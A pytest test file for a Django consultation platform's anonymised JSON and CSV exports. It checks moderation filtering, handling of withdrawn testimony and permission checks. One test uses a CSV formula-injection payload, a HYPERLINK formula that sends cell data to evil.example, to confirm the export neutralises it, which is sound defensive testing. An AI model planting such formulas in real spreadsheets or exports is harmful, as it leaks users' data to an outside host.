"""Anonymised exports (`uprhub consultations export`, JSON and CSV) and the read API."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command

from tests.accounts.factories import make_user
from tests.factories import RecommendationFactory, ThemeFactory
from uprhub.consultations import exporting, services
from uprhub.consultations.models import TagKind, Testimony, TestimonyStatus, TestimonyTag
from uprhub.recommendations.models import SuggestionStatus

from .conftest import make_input

pytestmark = pytest.mark.django_db


def give(consultation, text: str, status: str = TestimonyStatus.APPROVED, **kw) -> Testimony:
    testimony, _code = services.submit_testimony(consultation, make_input(text, **kw))
    Testimony.objects.filter(pk=testimony.pk).update(status=status)
    testimony.refresh_from_db()
    return testimony


def tag(testimony, *, theme=None, recommendation=None, status=SuggestionStatus.ACCEPTED):
    TestimonyTag.objects.create(
        testimony=testimony,
        kind=TagKind.THEME if theme is not None else TagKind.RECOMMENDATION,
        theme=theme,
        recommendation=recommendation,
        status=status,
        score=None if status == SuggestionStatus.ACCEPTED else 0.7,
    )


@pytest.fixture
def world(consultation):
    """One testimony in every state, one risk-flagged, one withdrawn, tags of every kind."""
    police = ThemeFactory(name="Police violence")
    water = ThemeFactory(name="Right to water")
    detention = ThemeFactory(name="Detention conditions")
    rec = RecommendationFactory(review=consultation.review, paragraph="26.178")
    rec_pending = RecommendationFactory(review=consultation.review, paragraph="26.9")
    rec_rejected = RecommendationFactory(review=consultation.review, paragraph="26.300")
    approved = give(
        consultation,
        "The police stop us every day on the way to school.",
        quote_anonymously=True,
        may_contact=True,
    )
    tag(approved, theme=police)
    tag(approved, theme=water, status=SuggestionStatus.PENDING)
    tag(approved, theme=detention, status=SuggestionStatus.REJECTED)
    tag(approved, recommendation=rec)
    tag(approved, recommendation=rec_pending, status=SuggestionStatus.PENDING)
    tag(approved, recommendation=rec_rejected, status=SuggestionStatus.REJECTED)
    risky = give(consultation, "Guards beat people in the county jail.", fears_reprisals=True)
    new = give(consultation, "No water for six weeks.", TestimonyStatus.NEW, language="es")
    needs = give(consultation, "Rent doubled this year.", TestimonyStatus.NEEDS_REDACTION)
    rejected = give(consultation, "Buy cheap watches here.", TestimonyStatus.REJECTED)
    withdrawn, code = services.submit_testimony(consultation, make_input("Taken back later."))
    services.withdraw_testimony(consultation, code)
    return {
        "approved": approved,
        "risky": risky,
        "new": new,
        "needs": needs,
        "rejected": rejected,
        "withdrawn": withdrawn,
    }


def run_export(*args: str) -> str:
    out = io.StringIO()
    call_command("consultations", "export", *args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def test_json_export_shape(consultation, world):
    data = json.loads(run_export("pittsburgh", "--format", "json"))
    assert set(data) == {"consultation", "items"}
    head = data["consultation"]
    assert head["slug"] == "pittsburgh" and head["state"] == "USA"
    assert head["title"] == "Pittsburgh listens" and head["place"] == "Pittsburgh"
    assert (head["session"], head["cycle"]) == (36, 3)
    assert head["languages"] == ["en", "es", "fr"]
    # approved, risky, new, needs redaction: rejected and withdrawn are not participants.
    assert head["participants"] == 4
    assert head["exported_at"].endswith("+00:00")
    assert [item["id"] for item in data["items"]] == [world["approved"].pk, world["risky"].pk]
    first, risky = data["items"]
    assert list(first) == list(exporting.ITEM_FIELDS)
    assert first == {
        "id": world["approved"].pk,
        "text": "The police stop us every day on the way to school.",
        "language": "en",
        "quote_anonymously": True,
        "quote_named": False,
        "may_contact": True,
        "risk": False,
        "status": "approved",
        "themes": ["Police violence"],
        "suggested_themes": ["Right to water"],
        "recommendations": ["26.178"],
        "suggested_recommendations": ["26.9"],
        "created_at": world["approved"].created_at.isoformat(),
    }
    # Risk-flagged testimony is exported to the coalition, flagged (never shown in public).
    assert risky["risk"] is True and risky["text"] == "Guards beat people in the county jail."


def test_include_unmoderated(consultation, world):
    data = json.loads(run_export("pittsburgh", "--include-unmoderated"))
    ids = {item["id"] for item in data["items"]}
    assert ids == {world[k].pk for k in ("approved", "risky", "new", "needs")}
    assert world["rejected"].pk not in ids and world["withdrawn"].pk not in ids
    texts = json.dumps(data)
    assert "Buy cheap watches" not in texts and "Taken back" not in texts
    assert {item["status"] for item in data["items"]} == {"approved", "new", "needs_redaction"}


def test_withdrawn_never_exported(consultation, world):
    for extra in ([], ["--include-unmoderated"]):
        for fmt in ("json", "csv"):
            output = run_export("pittsburgh", "--format", fmt, *extra)
            assert "withdrawn" not in output, (fmt, extra)
            assert f'"id": {world["withdrawn"].pk},' not in output


def test_csv_export(consultation, world, tmp_path):
    target = tmp_path / "out.csv"
    run_export("pittsburgh", "--format", "csv", "--include-unmoderated", "--output", str(target))
    with target.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert list(rows[0]) == list(exporting.ITEM_FIELDS)
    assert len(rows) == 4
    first = rows[0]
    assert first["id"] == str(world["approved"].pk)
    assert (first["quote_anonymously"], first["quote_named"], first["risk"]) == ("yes", "no", "no")
    assert first["themes"] == "Police violence"
    assert first["suggested_themes"] == "Right to water"
    assert first["recommendations"] == "26.178" and first["suggested_recommendations"] == "26.9"
    assert rows[1]["risk"] == "yes"


def test_csv_lists_are_semicolon_joined_and_cells_formula_safe(consultation):
    testimony = give(consultation, '=HYPERLINK("https://evil.example/?"&A1, "Click")')
    tag(testimony, theme=ThemeFactory(name="Right to water"))
    tag(testimony, theme=ThemeFactory(name="Police violence"))
    rows = list(csv.reader(io.StringIO(run_export("pittsburgh", "--format", "csv"))))
    item = dict(zip(rows[0], rows[1], strict=True))
    assert item["text"] == "'" + '=HYPERLINK("https://evil.example/?"&A1, "Click")'
    assert item["themes"] == "Police violence;Right to water"
    # …while JSON keeps the text as it is (data, not a spreadsheet).
    data = json.loads(run_export("pittsburgh"))
    assert data["items"][0]["text"].startswith("=HYPERLINK")


def test_output_file_json_and_unknown_slug(consultation, world, tmp_path):
    target = tmp_path / "export.json"
    err = io.StringIO()
    call_command("consultations", "export", "pittsburgh", "--output", str(target), stderr=err)
    assert json.loads(target.read_text(encoding="utf-8"))["consultation"]["slug"] == "pittsburgh"
    assert "2 testimonies written" in err.getvalue()
    with pytest.raises(CommandError, match="No consultation"):
        run_export("nowhere")


def test_export_service_refuses_without_view_results(consultation, world):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        exporting.export_consultation(consultation, actor=make_user("registered"))
    member = make_user("member")
    assert len(exporting.export_consultation(consultation, actor=member)["items"]) == 2
    with pytest.raises(PermissionDenied):  # unmoderated texts: the people who run it
        exporting.export_consultation(consultation, actor=member, include_unmoderated=True)
